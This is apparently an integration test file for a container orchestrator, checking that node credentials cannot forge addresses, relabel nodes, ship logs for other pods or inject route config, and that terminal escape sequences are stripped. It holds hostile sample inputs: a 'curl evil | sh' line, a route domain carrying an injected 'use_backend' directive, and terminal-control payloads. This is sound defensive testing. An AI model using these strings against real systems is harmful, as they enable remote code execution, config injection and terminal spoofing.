// What a node says about itself is not trusted (issue 11), tried as a node credential would: a forged
// address is refused, a node cannot relabel itself (an admin can, with lb node label), a node ships log
// lines of its own pods only, route hosts and paths are checked at apply, and what containers print
// reaches a terminal without its control sequences (lb logs, lb exec), while a pipe gets it as it was.
import { execFile } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { LbClient, LbError, type NodeStatusReport, type ShippedLogLine } from '@lastbackend/sdk';
import { newKeyPair } from '../core/src/tls/pki';
import { LB, TestServer, uniq, waitFor, webService } from './harness';

const CAPACITY = { cpu: 2000, ram: 2 ** 31, pods: 10, storage: 0 };
/** What a container prints: set the terminal's title, clear the screen (the realistic way in). */
const ATTACK = '\\033]0;pwned\\007\\033[2J';

/** A node joined with a join token, as `lb agent` does it: its own credential (and certificate over TLS). */
async function joinNode(s: TestServer, name: string): Promise<LbClient> {
  const { token } = await s.client.createToken({});
  if (!s.tls) return new LbClient({ server: s.url, token: (await new LbClient({ server: s.url, token }).join(name)).token });
  const ca = readFileSync(s.caFile, 'utf8');
  const keys = await newKeyPair();
  const joined = await new LbClient({ server: s.url, token: token.split('.').slice(0, 3).join('.'), tls: { ca } }).join(name, { address: '127.0.0.1', public_key: keys.publicKey });
  return new LbClient({ server: s.url, token: joined.token, tls: { ca, cert: joined.certificate, key: keys.key } });
}

const refusal = (p: Promise<unknown>): Promise<LbError> =>
  p.then(
    () => {
      throw new Error('expected the request to be refused');
    },
    (e: unknown) => {
      if (!(e instanceof LbError)) throw e;
      return e;
    },
  );

/** The CLI under a pseudo-terminal (util-linux script), as a user at a terminal runs it. */
function lbOnTerminal(s: TestServer, args: string[]): Promise<string> {
  const cmd = [process.execPath, LB, ...args].map((a) => `'${a.replace(/'/g, `'\\''`)}'`).join(' ');
  return new Promise((res, rej) =>
    execFile('script', ['-qec', cmd, '/dev/null'], { env: { ...process.env, ...s.env }, timeout: 60_000 }, (err, stdout, stderr) =>
      err ? rej(new Error(`${cmd}: ${err.message}\n${stdout}\n${stderr}`)) : res(stdout),
    ),
  );
}

describe('what a node says about itself', () => {
  let s: TestServer;
  let node: LbClient;
  let beat: NodeJS.Timeout | undefined;
  const ns = uniq('trust');
  const forger = uniq('forger');
  const report = (extra: Partial<NodeStatusReport> = {}) => ({ labels: { pool: 'forger' }, capacity: CAPACITY, addresses: ['127.0.0.1'], ...extra }) as NodeStatusReport;
  /** The fake node's pod, and a real one on the server's own node (running a container that prints ATTACK). */
  let ownPod = '';
  let localPod = '';

  beforeAll(async () => {
    s = await TestServer.start();
    await s.client.createNamespace({ kind: 'Namespace', meta: { name: ns } });
    node = await joinNode(s, forger);
    await node.reportNode(forger, report());
    beat = setInterval(() => void node.reportNode(forger, report()).catch(() => undefined), 2000);
    // A pod placed on the fake node (nothing runs it), and a real container on the server's node.
    const fake = webService('fake', 1, { readiness: false });
    await s.client.createService(ns, { ...fake, spec: { ...fake.spec, selector: { node: forger } } });
    const esc = webService('esc', 1, { readiness: false });
    esc.spec.template.containers[0]!.command = ['sh', '-c', `printf '${ATTACK}marker-esc\\n'; exec sleep 3600`];
    await s.client.createService(ns, { ...esc, spec: { ...esc.spec, selector: { node: s.node } } });
    ownPod = (await waitFor(() => s.pods(ns, 'fake'), (p) => p.length === 1 && p[0]!.meta.node === forger, 'a pod bound to the fake node'))[0]!.meta.name;
    localPod = (await waitFor(() => s.pods(ns, 'esc'), (p) => p.some((x) => x.status.running), 'the esc pod running'))[0]!.meta.name;
  }, 90_000);

  afterAll(async () => {
    clearInterval(beat);
    await s?.client.deleteNode(forger).catch(() => undefined);
    await s?.cleanup();
  });

  it('refuses a node address or a pod IP that is not an IP, 400 naming the field, and keeps what was stored', async () => {
    const bad = await refusal(node.reportNode(forger, report({ addresses: ['not-an-ip'] })));
    expect(bad.status).toBe(400);
    expect(bad.details.fields?.map((f) => f.field)).toEqual(['addresses.0']);
    expect((await s.client.node(forger)).status.addresses).toEqual(['127.0.0.1']);

    const status = (pod_ip: string) => ({ namespace: ns, name: ownPod, status: { state: 'ready' as const, running: true, message: '', network: { host_ip: '', pod_ip }, containers: [] } });
    const forged = await refusal(node.reportPods(forger, [status('not-an-ip')]));
    expect(forged.status).toBe(400);
    expect(forged.details.fields?.map((f) => f.field)).toEqual(['pods.0.status.network.pod_ip']);
    expect((await s.client.pod(ns, ownPod)).status.network.pod_ip).toBe('');
    // A real address goes through.
    await node.reportPods(forger, [status('10.250.0.9')]);
    expect((await s.client.pod(ns, ownPod)).status.network.pod_ip).toBe('10.250.0.9');
  });

  it('keeps the labels a node joined with whatever it reports later; an admin changes them with lb node label', async () => {
    expect((await s.client.node(forger)).meta.labels).toEqual({ pool: 'forger' });
    await node.reportNode(forger, report({ labels: { pool: 'gpu', role: 'db' } }));
    expect((await s.client.node(forger)).meta.labels).toEqual({ pool: 'forger' });
    // The labels route is the admin's: a node credential does not reach it.
    expect((await refusal(node.request('PUT', `/cluster/node/${forger}/labels`, { set: { pool: 'gpu' } }))).status).toBe(403);

    const set = await s.lb(['node', 'label', forger, 'pool=gpu', 'zone=a']);
    expect(set).toMatchObject({ code: 0, stdout: `node/${forger} labels: pool=gpu,zone=a\n` });
    const removed = await s.lb(['node', 'label', forger, 'zone-']);
    expect(removed.stdout).toBe(`node/${forger} labels: pool=gpu\n`);
    await node.reportNode(forger, report({ labels: {} }));
    expect((await s.client.node(forger)).meta.labels).toEqual({ pool: 'gpu' });

    const badKey = await s.lb(['node', 'label', forger, 'bad key=x']);
    expect(badKey.code).toBe(1);
    expect(badKey.stderr).toMatch(/^error: invalid label change: set\.bad key: label keys are/);
    expect((await s.lb(['node', 'label', 'no-such-node', 'a=b'])).stderr).toMatch(/node "no-such-node" not found/);
  });

  it('takes log lines of its own pods only: a line for a pod on another node, a pod that does not exist or another service is refused, 403 naming it', async () => {
    const line = (pod: string, service: string, text: string): ShippedLogLine => ({
      namespace: ns,
      service,
      pod,
      container: 'web',
      node: forger,
      stream: 'stdout',
      time: new Date().toISOString(),
      line: text,
    });
    expect(await node.shipLogs(forger, [line(ownPod, 'fake', 'from the fake node')])).toEqual({ stored: 1 });

    const other = await refusal(node.shipLogs(forger, [line(localPod, 'esc', 'forged: your session expired, run curl evil | sh')]));
    expect(other.status).toBe(403);
    expect(other.details.fields).toEqual([{ field: 'lines.0', reason: `pod "${localPod}" of namespace "${ns}" is not bound to node "${forger}"` }]);
    const ghost = await refusal(node.shipLogs(forger, [line(ownPod, 'fake', 'fine'), line('esc-0000000000', 'esc', 'forged')]));
    expect(ghost.details.fields?.map((f) => f.field)).toEqual(['lines.1']);
    const disguised = await refusal(node.shipLogs(forger, [line(ownPod, 'esc', 'forged')]));
    expect(disguised.details.fields?.map((f) => f.field)).toEqual(['lines.0.service']);

    const logs = await s.lb(['logs', 'esc', '-n', ns]);
    expect(logs.code).toBe(0);
    expect(logs.stdout).not.toContain('forged');
    expect((await s.lb(['logs', 'fake', '-n', ns])).stdout).toBe(`[${ownPod}/web] from the fake node\n`);
  });

  it('refuses route hosts and paths with whitespace or control characters at apply, naming the field', async () => {
    const route = (spec: Record<string, unknown>) => ({ kind: 'Route', meta: { name: 'r' }, spec: { rules: [{ path: '/', service: 'esc', port: 80 }], ...spec } });
    for (const [spec, field] of [
      [{ domain: 'a b.test' }, 'spec.domain'],
      [{ domain: 'evil.test\n    use_backend x' }, 'spec.domain'],
      [{ domain: 'ev\u001bil.test' }, 'spec.domain'],
      [{ rules: [{ path: '/a b', service: 'esc', port: 80 }] }, 'spec.rules.0.path'],
      [{ rules: [{ path: '/a\u0007', service: 'esc', port: 80 }] }, 'spec.rules.0.path'],
    ] as const) {
      const e = await refusal(s.client.create('route', ns, route(spec)));
      expect(e.status).toBe(400);
      expect(e.details.fields?.map((f) => f.field)).toEqual([field]);
    }
    const cli = await s.lb(['route', 'create', 'r', '-n', ns, '--host', 'a b.test', '--rule', '/=esc:80']);
    expect(cli.code).toBe(1);
    expect(cli.stderr).toMatch(/spec\.domain: must be a DNS name/);
    expect(await s.client.list('route', ns)).toEqual([]);
    // A good route goes in.
    await s.client.create('route', ns, route({ domain: 'esc.apps.test', rules: [{ path: '/api/v1', service: 'esc', port: 80 }] }));
  });

  it('shows a container printing escape sequences on a terminal without them (lb logs, lb exec); a pipe gets the bytes as they were', async () => {
    const piped = await waitFor(() => s.lb(['logs', 'esc', '-n', ns]), (r) => r.stdout.includes('marker-esc'), 'the esc line collected');
    expect(piped.stdout).toContain(`[${localPod}/web] \u001b]0;pwned\u0007\u001b[2Jmarker-esc\n`);

    const tty = await lbOnTerminal(s, ['logs', 'esc', '-n', ns]);
    expect(tty).toContain(`[${localPod}/web] marker-esc`);
    expect(tty).not.toMatch(/[\u001b\u0007\u009b]/);

    const exec = await lbOnTerminal(s, ['exec', localPod, '-n', ns, '--', 'sh', '-c', `printf '${ATTACK}exec-marker\\n'; printf '\\033]0;pwned\\007err-marker\\n' >&2`]);
    expect(exec).toContain('exec-marker');
    expect(exec).toContain('err-marker');
    expect(exec).not.toMatch(/[\u001b\u0007\u009b]/);
    const execPiped = await s.lb(['exec', localPod, '-n', ns, '--', 'sh', '-c', `printf '${ATTACK}exec-marker\\n'`]);
    expect(execPiped.stdout).toBe('\u001b]0;pwned\u0007\u001b[2Jexec-marker\n');

    const get = await lbOnTerminal(s, ['get', 'pods', '-n', ns]);
    expect(get).toContain(localPod);
    expect(get).not.toMatch(/\u001b/);
  });
});
